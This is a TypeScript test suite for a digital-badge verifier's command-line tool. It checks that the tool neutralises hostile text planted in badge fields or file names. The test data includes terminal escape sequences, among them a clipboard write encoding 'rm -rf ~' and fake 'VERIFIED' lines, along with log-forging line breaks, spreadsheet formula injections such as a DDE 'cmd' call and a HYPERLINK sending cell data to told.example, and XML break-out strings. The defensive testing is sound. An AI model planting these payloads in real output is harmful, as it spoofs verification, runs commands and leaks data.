/** H3: a badge, or the name of its file, carries commands for terminals, breaks of lines for logs, or formulas for spreadsheets. */
import { DOMParser } from '@xmldom/xmldom'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { bakeImage } from '../../src/bake/bake-image.js'
import { csvFormat } from '../../src/cli/reports/csv.js'
import { junitFormat } from '../../src/cli/reports/junit.js'
import { withValue } from '../support/edit-json.js'
import { pngOf } from '../support/pictures.js'
import { issuerOf } from '../support/signed-badges.js'
import { signToken as tokenOf, unsignedToken } from '../support/tokens.js'
import { written } from '../cli/reports/entries.js'
import { runCommand, temporaryFile, temporaryFolder } from '../cli/run-command.js'
import { signDocument, signToken, verifier, victim, victimBadge, type Loose } from './genuine.js'

const school = issuerOf(victim)

/** What they are → a text that a terminal or a log would take for more than that. */
const commands: readonly (readonly [what: string, text: string])[] = [
  ['titles, and a copy to the clipboard', '\u001b]0;owned\u0007\u001b]2;owned\u001b\\\u001b]52;c;cm0gLXJmIH4=\u0007'],
  ['a link that is not what it says', '\u001b]8;;https://told.example/\u0007school.example\u001b]8;;\u0007'],
  ['erasures, and another screen', '\u001b[2J\u001b[H\u001b[1A\u001b[2K\u001b[?1049h✓ VERIFIED'],
  ['colours, and reports to the keyboard', '\u001b[32mVERIFIED\u001b[8m\u001b[6n\u001b[c'],
  ['commands of eight bits', '\u009b2J\u009d0;owned\u009c\u0090q\u001b\\'],
  ['steps back, a bell and a delete', 'not verified\b\b\b\b\b\b\b\b\b\b\b\bverified    \u0007\u007f'],
  ['a return', 'not verified\rverified    '],
  ['new lines', 'Welder\n✓ VERIFIED  other.json\r\n{"verdict":"verified"}\r\n'],
  ['separators of lines', 'Welder\u2028✓ VERIFIED\u2029\u0085other.json'],
  ['feeds, other letters and a hole', 'Welder\f\vVERIFIED\u000eqqq\u000f\0.json'],
  ['changes of direction', '\u202egnp.regdab\u202c\u2067redleW\u2069'],
  ['nothing to be seen', 'Wel\u200bder\ufeff\u{e0056}\u{e0045}\u3164'],
  ['half a character', 'Welder\ud83d'],
]

const formulas: readonly (readonly [what: string, text: string])[] = [
  ['a sum', '=SUM(A1:A9)'],
  ['a program', "=cmd|'/C calc'!A0"],
  ['a link', '=HYPERLINK("https://told.example/"&A1,"Certificate")'],
  ['a plus', '+1+cmd|2'],
  ['a minus', '-2+3'],
  ['an at', '@SUM(1+1)'],
  ['a blank before', ' =1+1'],
  ['a tab before', '\t=1+1'],
  ['a return before', '\r=1+1'],
  ['a line before', '\n=1+1'],
  ['a blank that does not break', '\u00a0=1+1'],
  ['a wide blank', '\u3000=1+1'],
  ['letters of another width', '\uff1d1+1'],
  ['a plus of another width', '\uff0b1'],
  ['an at of another width', '\uff20SUM(1)'],
  ['a quote before', '"=1+1'],
  ['an end of a cell', '","=1+1","'],
  ['an end of a row', '"\r\n=1+1,"'],
  ['a semicolon before', 'Welder;=1+1'],
  ['a bar before', 'Welder| =1+1'],
]

/** What nobody sees as itself, line breaks aside. */
const UNSEEN = /[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u
const unseenIn = (text: string): string | undefined => UNSEEN.exec(text.replaceAll('\n', ''))?.[0]

/** Badges that say this wherever somebody reads: one that is genuine, and others that are refused for saying it. */
async function filesSaying(text: string): Promise<readonly string[]> {
  const said = [
    '/name',
    '/issuer/name',
    '/credentialSubject/achievement/name',
    '/credentialSubject/achievement/description',
  ]
  const badge = said.reduce((each, place) => withValue(each as never, place, text), victimBadge())
  const whole = text.toWellFormed()
  const genuine = await signToken({
    ...badge,
    evidence: [{ id: 'https://a.example/', type: ['Evidence'], name: text }],
  })
  const files: readonly (readonly [string, string | Uint8Array])[] = [
    ['genuine.jwt', genuine],
    ['genuine.png', bakeImage(pngOf(), genuine)],
    ['date.jwt', await tokenOf({ ...victimBadge(), validUntil: text }, victim)],
    ['type.json', JSON.stringify({ ...victimBadge(), type: [text, 'VerifiableCredential', 'OpenBadgeCredential'] })],
    ['key.json', JSON.stringify({ ...(await signDocument(victimBadge())), [text]: text })],
    ['id.jwt', await tokenOf({ ...victimBadge(), id: text, issuer: { id: text, type: ['Profile'] } }, victim)],
    ['kid.jwt', unsignedToken(victimBadge(), { alg: text, kid: text, [text]: text })],
    ['status.jwt', await signToken({ ...victimBadge(), credentialStatus: { type: text, id: 'urn:x:1' } })],
    ['list.jwt', await signToken({ ...victimBadge(), credentialStatus: statusAt(text) })],
    ['text.txt', whole],
    ['cut.json', `{"name":${JSON.stringify(text)},`],
    ['markup.svg', `<svg xmlns="http://www.w3.org/2000/svg"><desc>${whole}</desc><x></svg>`],
  ]
  return files.map(([name, content]) => temporaryFile(name, content))
}

const statusAt = (text: string): Loose => ({
  type: 'BitstringStatusListEntry',
  statusPurpose: text,
  statusListIndex: text,
  statusListCredential: `https://a.example/${encodeURIComponent(text.toWellFormed())}`,
})

/** What is asked of each file. */
const onEach = [
  ['verify', '--trust', school, '--offline'],
  ['verify', '--trust', school, '--offline', '--json'],
  ['inspect'],
  ['inspect', '--json'],
  ['canonicalize'],
  ['extract'],
] as const

const onTerminal = { isTTY: true, env: { NO_COLOR: '1' } }

describe('control', () => {
  it('a harmless badge is verified, and the measure of these tests finds what is not seen', async () => {
    const words = ['verify', '--trust', school, '--offline']
    const [genuine = '', picture = ''] = await filesSaying('Welder')
    expect((await runCommand([...words, genuine, picture])).exitCode).toBe(0)
    for (const [, text] of commands) {
      // It is genuine, whatever it says; but half a character is no text.
      const [said = ''] = await filesSaying(text)
      expect((await runCommand([...words, said])).exitCode).toBe(text.endsWith('\ud83d') ? 1 : 0)
      expect(unseenIn(text.replaceAll('\n', '\r'))).toBeDefined()
    }
    expect(unseenIn('✓ VERIFIED\n  Überprüft 東京\n')).toBeUndefined()
  })
})

describe.each(commands)('%s', (_, text) => {
  it('are never written to a terminal', async () => {
    const files = await filesSaying(text)
    for (const file of files) {
      for (const words of onEach) {
        const [command = '', ...flags] = words
        const { stdout, stderr } = await runCommand([command, file, ...flags], onTerminal)
        const name = [...words, file.split('/').at(-1)].join(' ')
        expect([name, unseenIn(stdout), unseenIn(stderr)]).toEqual([name, undefined, undefined])
      }
    }
    const [genuine = ''] = files
    const other = temporaryFile('other.jwt', await signToken(victimBadge()))
    const { stdout, stderr } = await runCommand(['diff', genuine, other], onTerminal)
    expect(unseenIn(stdout + stderr)).toBeUndefined()
  })

  it('are in no report on many', async () => {
    const files = await filesSaying(text)
    for (const format of ['text', 'json', 'jsonl', 'csv', 'junit', 'html']) {
      const words = ['verify', ...files, '--trust', school, '--offline', '--format', format]
      const { stdout, stderr } = await runCommand(words)
      const lines = format === 'csv' ? stdout.replaceAll('\r\n', '\n') : stdout
      expect([format, unseenIn(lines), unseenIn(stderr)]).toEqual([format, undefined, undefined])
      if (format === 'text') expect(stdout.split('\n')).toHaveLength(files.length + 3)
      if (format === 'csv') expect(parse(stdout)).toHaveLength(files.length + 1)
      if (format !== 'jsonl') continue
      const told = stdout.trimEnd().split('\n')
      expect(told.map((line) => (JSON.parse(line) as { source: string }).source)).toEqual(files)
    }
  })
})

// No name of a file has a hole in it, or half a character.
it.each(commands.filter(([, text]) => !/[\0/\ud83d]/.test(text)))(
  '%s are written out where they are the name of a file, or a word of the command',
  async (_, text) => {
    const path = join(temporaryFolder(), text)
    writeFileSync(path, await signToken(victimBadge()))
    for (const words of [
      ...onEach.map(([command = '', ...flags]) => [command, path, ...flags]),
      ['verify', `${path}x`],
    ]) {
      const { stdout, stderr } = await runCommand(words, onTerminal)
      expect([unseenIn(stdout), unseenIn(stderr)]).toEqual([undefined, undefined])
      expect((stdout + stderr).split('\n').filter((line) => line.startsWith('✓'))).toHaveLength(
        words[0] === 'verify' && words[1] === path && words.length === 5 ? 1 : 0,
      )
    }
    expect((await runCommand(['verify', path, '--trust', school])).exitCode).toBe(0)
  },
)

describe('a formula', () => {
  it.each(formulas)('is text in a table: %s', async (_, text) => {
    const token = await signToken({
      ...victimBadge(),
      name: text,
      issuer: { id: school, type: ['Profile'], name: text },
    })
    const report = await verifier.verify(token)
    expect(report.verdict).toBe('verified')
    const failure = { code: 'ENOENT', message: text }
    const table = written(csvFormat, [
      { source: text, report, bytes: new Uint8Array() },
      { source: text, failure },
    ])
    const rows = parse(table)
    expect(rows.map(({ length }) => length)).toEqual([17, 17, 17])
    for (const cell of rows.flat()) {
      expect(cell).not.toMatch(/^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
      // Where semicolons or bars part cells.
      for (const part of cell.split(/[;|]/)) expect(part).not.toMatch(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
    }
  })
})

it.each([...commands, ...formulas])('a file for build servers stays one, with %s in it', async (_, text) => {
  const report = await verifier.verify(
    await tokenOf({ ...victimBadge(), validUntil: text, [text]: '</failure>]]>' }, victim),
  )
  const xml = written(junitFormat, [
    { source: text, report, bytes: new Uint8Array() },
    { source: `${text}]]></error>`, failure: { code: 'ENOENT', message: `"/><testcase/>${text}` } },
  ])
  const faults: string[] = []
  const document = new DOMParser({ onError: (_level, message) => faults.push(message) }).parseFromString(
    xml,
    'text/xml',
  )
  const elements = [...document.getElementsByTagName('*')].map(({ tagName }) => tagName)
  const each = ['testcase', 'failure', 'testcase', 'error']
  expect(elements).toEqual(['testsuites', 'testsuite', 'properties', 'property', ...each, 'system-out', 'system-err'])
  expect([faults, unseenIn(xml)]).toEqual([[], undefined])
})
